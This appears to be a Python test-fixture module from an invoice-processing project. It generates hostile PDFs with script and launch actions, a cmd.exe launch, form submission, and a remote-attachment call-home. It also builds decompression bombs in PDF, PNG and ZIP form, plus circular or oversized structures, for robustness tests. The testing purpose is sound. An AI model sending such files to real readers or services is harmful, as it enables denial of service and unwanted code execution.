"""PDFs, images and others that mean harm, or are broken in ways that harm: made when asked for."""

import io
import struct
import zlib
from collections.abc import Callable
from typing import Any, Final

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from invoices.samples import as_cii_xml, as_facturx_pdf
from tests.invoices import making
from tests.invoices.watching import CALL_HOME

_CII: Final = as_cii_xml(making.invoice())
_FACTURX: Final = as_facturx_pdf(making.invoice())


def _altered(change: Callable[[pikepdf.Pdf], object], pdf: bytes = _FACTURX) -> bytes:
    with pikepdf.open(io.BytesIO(pdf)) as opened:
        change(opened)
        out = io.BytesIO()
        opened.save(out, static_id=True, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


def _deflated(size: int, layers: int, unit: bytes = b"\0") -> bytes:
    """
    So many bytes of one unit, deflated as often.

    A block that ends in a full flush stands for itself: one is made, and repeated.
    """
    piece = unit * ((1 << 20) // len(unit))
    squeezer = zlib.compressobj(9)
    first = squeezer.compress(piece) + squeezer.flush(zlib.Z_FULL_FLUSH)
    block = squeezer.compress(piece) + squeezer.flush(zlib.Z_FULL_FLUSH)
    count, check = size >> 20, 1
    for _ in range(count):
        check = zlib.adler32(piece, check)
    data = first + block * (count - 1) + b"\x03\0" + check.to_bytes(4)
    for _ in range(layers - 1):
        data = zlib.compress(data, 9)
    return data


def javascript() -> bytes:
    return with_script(_FACTURX)


def with_script(pdf: bytes) -> bytes:
    """The same PDF, which runs a script when it is opened."""
    script = _action(Name.JavaScript, JS=String("app.alert(1)"))
    return _altered(lambda opened: setattr(opened.Root, "OpenAction", script), pdf)


def launch() -> bytes:
    return _altered(lambda pdf: setattr(pdf.Root, "OpenAction", _action(Name.Launch, F=String("cmd.exe"))))


def javascript_behind_a_link() -> bytes:
    """An ordinary link whose chain of actions goes on to a script."""

    def change(pdf: pikepdf.Pdf) -> None:
        action = _action(Name.URI, URI=String("https://exemple.test"), Next=_action(Name.JavaScript, JS=String("x()")))
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
        pdf.pages[0].obj.Annots = Array([link])

    return _altered(change)


def form_that_is_sent() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        action = _action(Name.SubmitForm, F=String("http://exemple.test/"))
        pdf.pages[0].obj.AA = Dictionary(O=action)

    return _altered(change)


def _action(kind: Any, **terms: Any) -> Dictionary:
    return Dictionary(Type=Name.Action, S=kind, **terms)


def remote_attachment(port: int) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        address = String(CALL_HOME.format(port=port))
        spec = pdf.make_indirect(Dictionary(Type=Name.Filespec, FS=Name.URL, F=address, UF=address))
        pdf.Root.AF = Array([spec])
        pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("factur-x.xml"), spec])))

    return _altered(change)


def pdf_in_pdf() -> bytes:
    """Ten deep: what is inside an attachment is not looked for."""
    inner = _FACTURX
    for _ in range(10):
        inner = making.pdf_with(("factur-x.xml", inner))
    return inner


def flate_in_flate() -> bytes:
    return making.pdf_with(("factur-x.xml", b"<" + b"\0" * (48 << 20)), packed=4)


def filters_in_a_chain() -> bytes:
    """A bomb behind filters that qpdf undoes at once."""

    def change(pdf: pikepdf.Pdf) -> None:
        stream = pdf.Root.Names.EmbeddedFiles.Names[1].EF.F
        packed = _deflated(600 << 20, 2).hex().encode() + b">"
        stream.write(packed, filter=Array([Name.ASCIIHexDecode, Name.FlateDecode, Name.FlateDecode]))

    return _altered(change, making.pdf_with(("factur-x.xml", _CII)))


def bomb_as_page() -> bytes:
    """What the page draws is two gigabytes of operators: met where its text is read."""

    def change(pdf: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(pdf, b"")
        stream.write(_deflated(1 << 30, 1, b"0 0 m 9 9 l S\n\n\n"), filter=Name.FlateDecode)
        pdf.pages[0].obj.Contents = pdf.make_indirect(stream)

    return _altered(change, making.pdf_with())


def object_stream_bomb() -> bytes:
    """An object stream of a gigabyte: a reader must unpack it to find any object in it."""
    packed = _deflated(1 << 30, 1, b" ")
    head = b"%PDF-1.7\n"
    body = head + b"1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(packed)
    body += packed + b"\nendstream\nendobj\n"
    entries = [(0, 0, 0), (1, len(head), 0), (2, 1, 0), (1, len(body), 0)]
    table = b"".join(struct.pack(">BIB", *entry) for entry in entries)
    terms = b"<</Type/XRef/Size 4/W[1 4 1]/Root 2 0 R/Length %d>>" % len(table)
    xref = b"3 0 obj\n" + terms + b"\nstream\n" + table + b"\nendstream\nendobj\n"
    return body + xref + b"startxref\n%d\n%%%%EOF" % len(body)


def cross_reference_bomb() -> bytes:
    packed = _deflated(1 << 30, 1)
    head = b"%PDF-1.7\n"
    terms = b"<</Type/XRef/Size 100000000/W[1 4 1]/Root 2 0 R/Filter/FlateDecode/Length %d>>" % len(packed)
    return head + b"1 0 obj\n" + terms + b"\nstream\n" + packed + b"\nendstream\nendobj\nstartxref\n9\n%%EOF"


def million_objects() -> bytes:
    parts, places, at = [], [], 0

    def add(data: bytes) -> None:
        nonlocal at
        parts.append(data)
        at += len(data)

    add(b"%PDF-1.4\n")
    for number in range(1, 1_000_001):
        places.append(at)
        if number == 1:
            add(b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n")
        elif number == 2:
            add(b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n")
        elif number == 3:
            add(b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n")
        else:
            add(b"%d 0 obj<</A[1 2 3]>>endobj\n" % number)
    start = at
    add(b"xref\n0 1000001\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % place for place in places))
    add(b"trailer<</Size 1000001/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % start)
    return b"".join(parts)


def pages_in_a_circle() -> bytes:
    with pikepdf.open(io.BytesIO(making.pdf_with())) as pdf:
        pdf.Root.Pages.Kids = Array([pdf.Root.Pages])
        out = io.BytesIO()
        pdf.save(out, static_id=True)
    return out.getvalue()


def names_in_a_circle() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        node = pdf.make_indirect(Dictionary())
        node.Kids = Array([node] * 100)
        pdf.Root.Names = Dictionary(EmbeddedFiles=node)

    return _altered(change, making.pdf_with())


def actions_in_a_circle() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        action = pdf.make_indirect(_action(Name.GoTo))
        action.Next = action
        pdf.Root.OpenAction = action

    return _altered(change)


def deep_arrays() -> bytes:
    return _FACTURX.replace(b"/Type /Catalog", b"/Deep " + b"[" * 200_000 + b"]" * 200_000 + b"/Type /Catalog", 1)


def truncated_pdf() -> bytes:
    return _FACTURX[: len(_FACTURX) // 2]


def headless_pdf() -> bytes:
    return b"%PDF-1.7\n" + b"\0" * (1 << 20)


def noise_as_pdf() -> bytes:
    return b"%PDF-1.7\n" + b"".join(zlib.crc32(n.to_bytes(4)).to_bytes(4) for n in range(200_000))


# --- Images and the rest ----------------------------------------------------------------------------------------------


def png_bomb() -> bytes:
    """A picture of 60,000 by 60,000 points in some megabytes: ten gigabytes once it is unpacked."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", _deflated(1 << 30, 1)) + chunk(b"IEND", b"")


def gif_that_ends() -> bytes:
    return b"GIF89a" + struct.pack("<HHBBB", 65_535, 65_535, 0x80, 0, 0) + b"\0" * 6


def archive_bomb() -> bytes:
    return b"PK\x03\x04" + _deflated(512 << 20, 2)
